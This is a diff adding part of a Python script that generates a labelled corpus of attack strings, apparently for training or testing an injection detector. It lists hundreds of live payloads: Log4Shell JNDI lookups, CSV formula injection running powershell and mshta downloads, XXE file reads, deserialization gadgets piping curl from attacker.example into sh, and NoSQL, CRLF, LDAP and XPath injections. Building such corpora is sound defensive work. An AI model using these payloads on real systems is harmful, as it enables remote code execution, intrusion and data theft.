+    ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/b}"),
+    ("log4shell", "${j${k8s:k5:-ND}i:ldap://203.0.113.66/c}"),
+    ("prototype-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
+    ("prototype-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"owner\"}}}"),
+    ("prototype-pollution", "__proto__[isAdmin]=true"),
+    ("prototype-pollution", "settings[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
+    ("prototype-pollution", "constructor.prototype.shell=/proc/self/exe"),
+    ("prototype-pollution", "{\"name\":\"Studio\",\"__proto__\":{\"sourceURL\":\"\\u000areturn process.mainModule.require('child_process').execSync('id')//\"}}"),
+    ("csv-formula", "=cmd|' /C calc'!A0"),
+    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"View invoice\")"),
+    ("csv-formula", "+SUM(1+1)*cmd|' /C powershell IEX(wget 203.0.113.8/p)'!A1"),
+    ("csv-formula", "-2+3+cmd|' /C notepad'!'A1'"),
+    ("csv-formula", "@SUM(1,1)*cmd|'/C curl attacker.example'!A0"),
+    ("csv-formula", "=WEBSERVICE(\"http://attacker.example/x?\"&A1)"),
+    ("csv-formula", "V-118;=IMPORTXML(CONCAT(\"https://attacker.example/?\",B2),\"//a\");3,4"),
+    ("csv-formula", "Lucía,=DDE(\"cmd\";\"/C calc\";\"x\"),beginner"),
+    ("csv-formula", "\t=1+1+cmd|'/c mshta http://203.0.113.8/h'!a"),
+    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><order><sku>&x;</sku></order>"),
+    ("xxe", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/evil.dtd\"> %p;]><r/>"),
+    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&h;</text></svg>"),
+    ("xxe", "<!DOCTYPE z [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><z>&d;</z>"),
+    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>"),
+    ("xxe", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE invoice SYSTEM \"http://203.0.113.25/inv.dtd\"><invoice>INV-2024-0318</invoice>"),
+    ("deserialization", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
+    ("deserialization", "a:1:{i:0;O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\\u0000*\\u0000socket\";N;}}"),
+    ("deserialization", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0"),
+    ("deserialization", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
+    ("deserialization", "!!python/object/apply:os.system ['curl attacker.example/y|sh']"),
+    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
+    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://203.0.113.66:1389/a\",\"autoCommit\":true}"),
+    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList\n  specs: []"),
+    ("deserialization", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
+    ("deserialization", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
+]
+
+NOSQLI = [
+    ("operator", "{\"$ne\": null}"),
+    ("operator", "{\"email\": \"tess@studio.example\", \"password\": {\"$ne\": \"\"}}"),
+    ("operator", "{\"$gt\": \"\"}"),
+    ("operator", "password[$ne]=x"),
+    ("operator", "email[$regex]=^t.*&password[$ne]=1"),
+    ("operator", "{\"username\": {\"$in\": [\"admin\", \"owner\", \"tess\"]}, \"password\": {\"$gt\": \"\"}}"),
+    ("operator", "{\"sku\": {\"$nin\": []}}"),
+    ("operator", "{\"$or\": [{\"role\": \"owner\"}, {\"role\": {\"$exists\": true}}]}"),
+    ("operator", "booking_ref[$exists]=true"),
+    ("operator", "{\"email\": {\"$regex\": \".*\"}, \"password\": {\"$regex\": \"^a\"}}"),
+    ("operator", "{\"student_id\": {\"$gte\": 0}}"),
+    ("regex-blind", "{\"resetToken\": {\"$regex\": \"^3f\"}}"),
+    ("regex-blind", "token[$regex]=^a.{31}$"),
+    ("regex-blind", "{\"email\": {\"$regex\": \"^(a+)+$\"}}"),
+    ("js-where", "{\"$where\": \"this.role == 'owner' || sleep(5000)\"}"),
+    ("js-where", "'; return true; var x='"),
+    ("js-where", "{\"$where\": \"function(){return this.password.match(/^a/)}\"}"),
+    ("js-where", "1'; while(true){}; '"),
+    ("js-where", "koi' || '1'=='1"),
+    ("js-where", "{\"$function\": {\"body\": \"function(){return sleep(4000)||true}\", \"args\": [], \"lang\": \"js\"}}"),
+    ("aggregation", "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}]"),
+    ("aggregation", "{\"$expr\": {\"$eq\": [{\"$substr\": [\"$password\", 0, 1]}, \"a\"]}}"),
+    ("aggregation", "[{\"$out\": \"invoices\"}]"),
+    ("couch-es", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"password_hash\"]}"),
+    ("couch-es", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
+    ("couch-es", "colour:* OR _exists_:password_hash"),
+    ("operator", "{\"price\": {\"$lt\": 1e308}, \"$comment\": \"dump all\"}"),
+]
+
+CRLF = [
+    ("log-forging", "koi\n2024-03-14 10:22:01 INFO admin login succeeded user=tess ip=10.0.0.5"),
+    ("log-forging", "BK-10442\r\n[2024-05-09T09:00:00Z] payment INV-2024-0318 status=PAID amount=1240.00"),
+    ("log-forging", "gold smalti%0a127.0.0.1 - tess [09/May/2024:10:00:00 +0000] \"POST /admin/refund HTTP/1.1\" 200"),
+    ("log-forging", "Ana%0d%0aWARN audit: role changed to owner by system"),
+    ("log-forging", "search term\n\n=== END OF LOG ===\nuser=anonymous action=none"),
+    ("log-forging", "Jo\u2028INFO user=owner action=export_all"),
+    ("log-forging", "note%0D%0A%1B[2J%1B[1;31mSECURITY ALERT: call 0800 000 000"),
+    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker-fixed; Path=/"),
+    ("header-injection", "/gallery%0d%0aLocation:%20https://attacker.example/login"),
+    ("header-injection", "koi.jpg\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
+    ("header-injection", "es-ES%0D%0AX-Forwarded-For:%20127.0.0.1"),
+    ("header-injection", "Studio Tessera%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example"),
+    ("header-injection", "invoice.pdf\"\r\nContent-Disposition: attachment; filename=\"update.exe"),
+    ("header-injection", "/bookings%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
+    ("header-injection", "x%250d%250aRefresh:%200;url=//attacker.example"),
+    ("response-splitting", "/media%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<html>studio closed, pay here</html>"),
+    ("response-splitting", "ja-JP\r\n\r\nHTTP/1.1 302 Found\r\nLocation: http://attacker.example/\r\n\r\n"),
+    ("response-splitting", "redir%0A%0A<svg onload=alert(1)>"),
+    ("mail-header", "tess@studio.example\r\nBcc: list@attacker.example"),
+    ("mail-header", "Booking confirmation%0ACc: everyone@attacker.example%0ASubject: Your card was declined"),
+    ("mail-header", "Lucía Fernández <lucia@example.com>\nReply-To: billing@attacker.example"),
+    ("mail-header", "Tess at Studio Tessera\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay your invoice</a>"),
+    ("mail-header", "newsletter@studio.example%0d%0aTo:%20all-students@studio.example%0d%0aX-Priority:%201"),
+    ("mail-header", "Spring term\nBcc: a@attacker.example, b@attacker.example\n\nFree voucher inside: https://attacker.example/v"),
+    ("smtp-injection", "hello\r\n.\r\nMAIL FROM:<ceo@studio.example>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: urgent\r\n\r\nwire the deposit\r\n."),
+    ("csv-row-injection", "Kwame\n999,Free class,0.00,PAID"),
+    ("csv-row-injection", "V-118;Vitreous sky;#87CEEB;20;3.4\r\nV-999;=HYPERLINK(\"https://attacker.example\");#000000;1;0"),
+    ("csv-row-injection", "Lucía\",\"lucia@example.com\",\"beginner\"\n\"Mallory\",\"m@attacker.example\",\"admin"),
+    ("csv-row-injection", "INV-0312,15/04,£0.00\nINV-0313,16/04,£-5000.00,REFUND"),
+    ("header-injection", "X-Studio: 1\nTransfer-Encoding: chunked"),
+]
+
+LDAP_XPATH = [
+    ("ldap", "*)(uid=*))(|(uid=*"),
+    ("ldap", "tess)(|(password=*))"),
+    ("ldap", "admin*)((|userPassword=*)"),
+    ("ldap", "*)(objectClass=*"),
+    ("ldap", "Priya)(&(memberOf=cn=admins,ou=groups,dc=studio,dc=local))"),
+    ("ldap", "jo*)(!(cn=nobody"),
+    ("ldap", "\\2a)(uid=\\2a"),
+    ("ldap", "sam)(|(mail=*@studio.example)(cn=*"),
+    ("ldap", "x)(description=*pass*))%00"),
+    ("ldap", "*))(|(objectClass=person)(sn=*"),
+    ("xpath", "' or '1'='1"),
+    ("xpath", "tess' or name()='password' or 'a'='b"),
+    ("xpath", "koi'] | //user/password | //*['"),
+    ("xpath", "' or count(/students/student)>0 or '"),
+    ("xpath", "x' or substring(//user[1]/pass,1,1)='a' or 'x'='y"),
+    ("xpath", "1 or 1=1]/parent::*/child::node()|//*[1"),
+    ("xpath", "gold\"] | //config/apiKey | //*[\""),
+    ("xpath", "' and string-length(//admin/password)>8 and ''='"),
+    ("xpath", "')] | doc('http://attacker.example/x.xml') | //a[('"),
+    ("xpath", "\" or local-name(/*[1])=\"invoices\" or \"1\"=\"2"),
+]
+
+
+def urlenc_all(s):
+    return "".join("%%%02X" % b for b in s.encode("utf-8"))
+
+
+def main():
+    rng = random.Random(SEED)
+    rows = []  # (cat, class, value, literal?)
+    for c, v in SQLI:
+        rows.append(("sqli", c, v, True))
+    # sqli: pool x prefix (4) + urlencode (4)
+    pairs = [(p, q) for p in SQLI_PREFIX for q in SQLI_POOL]
+    for p, q in rng.sample(pairs, 4):
+        rows.append(("sqli", "tautology-or-union+prefix", p + q, False))
+    for v in SQLI_URLENC:
+        rows.append(("sqli", "mixed+urlencode", urlenc_all(v), False))
+    for c, v in XSS:
+        rows.append(("xss", c, v, True))
+    pairs = [(p, q) for p in XSS_PREFIX for q in XSS_POOL]
+    for p, q in rng.sample(pairs, 5):
+        rows.append(("xss", "html-injection+prefix", p + " " + q, False))
+    for c, v in CMDI:
+        rows.append(("cmdi", c, v, True))
+    pairs = [(p, q) for p in CMDI_PREFIX for q in CMDI_POOL]
+    for p, q in rng.sample(pairs, 5):
+        rows.append(("cmdi", "separator+prefix", p + q, False))
+    for c, v in TRAV:
+        rows.append(("traversal", c, v, True))
+    for v in TRAV_URLENC:
+        rows.append(("traversal", "dotdot+urlencode", urlenc_all(v), False))
+    for c, v in SSRF:
+        rows.append(("ssrf", c, v, True))
+    for c, v in CODE:
+        rows.append(("code", c, v, True))
+    for c, v in NOSQLI:
+        rows.append(("nosqli", c, v, True))
+    for c, v in CRLF:
+        rows.append(("crlf", c, v, True))
+    for c, v in LDAP_XPATH:
+        rows.append(("ldap-xpath", c, v, True))
+
+    benign = set()
+    bpath = os.path.join(HERE, "benign.jsonl")
+    if os.path.exists(bpath):
+        with open(bpath, encoding="utf-8") as f:
+            for line in f:
+                benign.add(json.loads(line)["value"])
+    vals = [r[2] for r in rows]
+    dups = sorted({v for v in vals if vals.count(v) > 1})
+    assert not dups, dups
+    clash = [v for v in vals if v in benign]
+    assert not clash, clash
+    for r in rows:
+        v = r[2]
+        assert 1 <= len(v) <= 2000, v
+        for ch in v:
+            if ord(ch) < 32 and ch not in "\n\r\t":
+                raise AssertionError("control char in %r" % v)
+    out = os.path.join(HERE, "attacks.jsonl")
+    with open(out, "w", encoding="utf-8", newline="\n") as f:
+        for i, (cat, cls, v, _) in enumerate(rows, 1):
+            f.write(json.dumps({"id": "haio-%05d" % i, "category": cat, "class": cls, "label": "attack",
+                                "value": v}, ensure_ascii=False) + "\n")
+    print("wrote", len(rows), "attack values;", sum(r[3] for r in rows), "literals")
+    counts = {}
+    for cat, cls, v, lit in rows:
+        n, l = counts.get(cat, (0, 0))
+        counts[cat] = (n + 1, l + (1 if lit else 0))
+    for cat in ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]:
+        print(cat, counts[cat])
+
+
+if __name__ == "__main__":
+    main()
